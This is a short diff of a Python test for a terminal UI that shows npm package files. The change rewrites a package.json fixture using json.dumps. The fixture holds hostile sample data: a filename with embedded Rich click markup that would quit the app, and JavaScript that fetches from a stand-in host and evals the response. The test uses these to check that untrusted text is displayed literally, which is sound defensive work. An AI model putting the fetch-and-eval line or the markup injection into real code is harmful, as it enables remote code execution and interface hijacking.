@@ -3,6 +3,8 @@ code scrolls to the line, which is shown reversed under a caption saying which o
 
 from __future__ import annotations
 
+import json
+
 from rich.segment import Segment
 from textual.geometry import Region
 from tui_helpers import FakeProvider, MemoryTarball, rendered_text, settle, wait_until
@@ -155,7 +157,8 @@ async def test_the_caption_shows_untrusted_names_and_code_literally(make_app, ma
     hostile = "[@click=app.quit]m[/].js"
     code = "module.exports = 1;\nfetch('https://x.example.invalid/[b]bold[/b]').then(r => r.text()).then(eval);\n"
     provider = provider_with("module.exports = 2;\n", **{
-        "package_json": '{"name":"evil-scripts","main":"%s","scripts":{"postinstall":"node install.js"}}' % hostile,
+        "package_json": json.dumps({"name": "evil-scripts", "main": hostile,
+                                    "scripts": {"postinstall": "node install.js"}}),
         hostile: code})
     app = make_app(make_session(provider=provider))
     async with app.run_test(size=(120, 30)) as pilot:
